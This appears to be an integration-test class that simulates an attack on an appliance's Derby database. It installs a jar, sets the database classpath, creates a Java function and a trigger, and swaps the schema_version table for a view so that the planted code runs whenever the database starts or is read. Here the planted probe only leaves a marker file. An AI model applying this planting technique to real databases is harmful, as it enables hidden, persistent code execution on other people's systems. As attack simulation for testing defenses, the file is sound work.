package io.sallyport.itests.attack.disk;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;

/**
 * With Derby as it comes, in a JVM of its own: the table that a start reads first becomes a view that calls a class in a jar in the database,
 * and a trigger calls it too. Arguments: database, jar, the file that the class leaves. Fails if the class does not run here.
 */
public final class DatabasePlanting {
  private DatabasePlanting() {}

  public static void main(String[] arguments) throws SQLException {
    String leave = "operations.leave('" + arguments[2] + "')";
    try (Connection connection = DriverManager.getConnection("jdbc:derby:" + arguments[0]); Statement statement = connection.createStatement()) {
      statement.execute("CALL SQLJ.INSTALL_JAR('" + arguments[1] + "', 'APP.planted', 0)");
      statement.execute("CALL SYSCS_UTIL.SYSCS_SET_DATABASE_PROPERTY('derby.database.classpath', 'APP.planted')");
      statement.execute("CREATE FUNCTION operations.leave (file VARCHAR(1000)) RETURNS INTEGER PARAMETER STYLE JAVA NO SQL LANGUAGE JAVA "
          + "EXTERNAL NAME 'io.sallyport.itests.appliance.attack.probe.DatabaseMark.leave'");
      statement.execute("CREATE TRIGGER operations.planted AFTER INSERT ON operations.insight FOR EACH STATEMENT VALUES " + leave);
      statement.execute("DROP TABLE operations.schema_version");
      statement.execute("CREATE VIEW operations.schema_version AS SELECT " + leave + " AS version FROM SYSIBM.SYSDUMMY1");
      statement.executeQuery("SELECT MAX(version) FROM operations.schema_version").next();
    }
    try {
      DriverManager.getConnection("jdbc:derby:" + arguments[0] + ";shutdown=true");
    } catch (SQLException closed) {
      System.out.println("planted");
    }
  }
}
